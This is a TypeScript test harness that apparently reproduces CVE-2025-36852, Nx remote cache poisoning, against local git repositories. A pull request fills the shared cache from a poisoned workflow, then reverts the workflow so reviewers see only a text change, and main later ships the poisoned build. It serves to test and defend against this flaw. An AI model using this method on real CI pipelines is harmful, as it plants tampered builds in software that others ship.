import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { runOk } from '@interlock/kit'
import type { JobClaims } from './identity-provider.ts'
import { HONEST_JOB, installPackages, JOB_FILE, POISONED_JOB, sources, writeFiles } from './workspace.ts'

/** Who opens the pull request: somebody with the right to push a branch, or somebody with a fork. */
export type Attacker = 'fork' | 'same-repository'

/** A remote cache as the jobs of one repository see it. */
export interface CacheUnderAttack {
  readonly title: string
  /** The plugin of nx.json that this cache comes with, if it does. */
  readonly plugin: string | undefined
  /** More files of the repository. */
  readonly files: Readonly<Record<string, string>>
  /** What a job finds in its environment: credentials as the host hands them out. */
  readonly environmentOf: (job: Job) => Readonly<Record<string, string>>
}

export interface Job {
  readonly event: 'pull_request' | 'push'
  readonly attacker?: Attacker
  readonly claims: JobClaims
}

/** What became of it. */
export interface AttackResult {
  readonly cache: string
  readonly attacker: Attacker
  /** What main built before. */
  readonly before: string
  /** What the pull request built, and what it got once it had taken its workflow back: whether the poison is in the cache. */
  readonly pullRequest: string
  readonly again: string
  /** What main ships after the merge. */
  readonly shipped: string
  readonly poisoned: boolean
  /** Whether main's last build was answered by the cache. */
  readonly answeredByCache: boolean
}

export interface AttackPlace {
  /** An empty folder. */
  readonly folder: string
  /** The clone whose node_modules the jobs use. */
  readonly repository: string
  readonly print: (line: string) => void
}

/**
 * CVE-2025-36852, step by step, with the real git and the real Nx. A pull request changes a text that any reviewer accepts,
 * and the workflow; it takes the change of the workflow back before anybody merges. The tree that is merged is clean, and its
 * hash is the one that the poisoned job has filled.
 */
export async function attack(cache: CacheUnderAttack, attacker: Attacker, place: AttackPlace): Promise<AttackResult> {
  const origin = join(place.folder, 'origin')
  const git = async (...words: readonly string[]): Promise<unknown> => runOk(['git', ...IDENTITY, ...words], { cwd: origin })
  const commit = async (message: string): Promise<void> => {
    await git('add', '--all')
    await git('commit', '--quiet', '--message', message)
  }
  await writeFiles(origin, { ...sources(cache.plugin), ...cache.files })
  await git('init', '--quiet', '--initial-branch=main')
  await commit('the project')
  place.print('main: builds and fills the cache')
  const before = await runJob({ cache, job: push(1), place, name: 'main-1' })

  await git('checkout', '--quiet', '-b', 'friendly')
  await writeFiles(origin, { 'app/greeting.txt': 'hello, world\n', [JOB_FILE]: POISONED_JOB })
  await commit('greet everybody')
  place.print(`pull request (${attacker}): a harmless text, and a workflow that changes the build tool`)
  const pullRequest = await runJob({ cache, job: pullRequestJob(attacker), place, name: 'pull-request' })

  await writeFiles(origin, { [JOB_FILE]: HONEST_JOB })
  await commit('leave the workflow alone')
  place.print(`pull request (${attacker}): the workflow is as it was; a reviewer sees a text`)
  const again = await runJob({ cache, job: pullRequestJob(attacker), place, name: 'pull-request-again' })

  await git('checkout', '--quiet', 'main')
  await git('merge', '--quiet', '--squash', 'friendly')
  await commit('greet everybody')
  place.print('main: the text is merged; builds on a fresh machine')
  const after = await runJob({ cache, job: push(2), place, name: 'main-2' })

  return {
    cache: cache.title,
    attacker,
    before: before.text,
    pullRequest: pullRequest.text,
    again: again.text,
    shipped: after.text,
    poisoned: after.text.includes('POISONED'),
    answeredByCache: /\[remote cache\]/u.test(after.output),
  }
}

const IDENTITY = ['-c', 'user.name=demo', '-c', 'user.email=demo@example.invalid', '-c', 'commit.gpgsign=false']

interface JobRun {
  readonly cache: CacheUnderAttack
  readonly job: Job
  readonly place: AttackPlace
  readonly name: string
}

/** One job on a fresh machine: a clone of what is checked out, the packages, and the job's own script. */
async function runJob({ cache, job, place, name }: JobRun): Promise<{ readonly text: string; readonly output: string }> {
  const folder = join(place.folder, name)
  await runOk(['git', 'clone', '--quiet', join(place.folder, 'origin'), folder], { cwd: place.folder })
  await installPackages(folder, place.repository)
  const { stdout } = await runOk([process.execPath, JOB_FILE], { cwd: folder, env: { ...fresh(), ...cache.environmentOf(job) } })
  return { text: (await readFile(join(folder, 'dist/app/index.txt'), 'utf8')).trim(), output: stdout }
}

/** A machine of CI has nothing of ours in its environment. */
function fresh(): Readonly<Record<string, string | undefined>> {
  const foreign = Object.keys(process.env).filter((name) => /^(?:NX_|GIT_|GITHUB_|ACTIONS_|INTERLOCK_|VITEST|NODE_)/u.test(name))
  return {
    ...Object.fromEntries(foreign.map((name) => [name, undefined])),
    NODE_OPTIONS: '--conditions=@interlock/source',
    NX_DAEMON: 'false',
    NX_ISOLATE_PLUGINS: 'false',
    NX_NO_CLOUD: 'true',
    NX_TUI: 'false',
  }
}

/** Ids of the repository, as GitHub signs them. */
export const REPOSITORY_CLAIMS = { repository_id: '123456', repository_owner_id: '65' } as const

function push(run: number): Job {
  const claims = { ...REPOSITORY_CLAIMS, event_name: 'push', ref: 'refs/heads/main', ref_protected: 'true', ref_type: 'branch' }
  return { event: 'push', claims: { ...claims, actor_id: '1', run_id: String(run), sha: '0'.repeat(40) } }
}

function pullRequestJob(attacker: Attacker): Job {
  const claims = { ...REPOSITORY_CLAIMS, event_name: 'pull_request', ref: 'refs/pull/5/merge', ref_protected: 'false' }
  const more = { actor_id: '666', base_ref: 'main', head_ref: 'friendly', ref_type: 'branch', run_id: '99', sha: '1'.repeat(40) }
  return { event: 'pull_request', attacker, claims: { ...claims, ...more } }
}
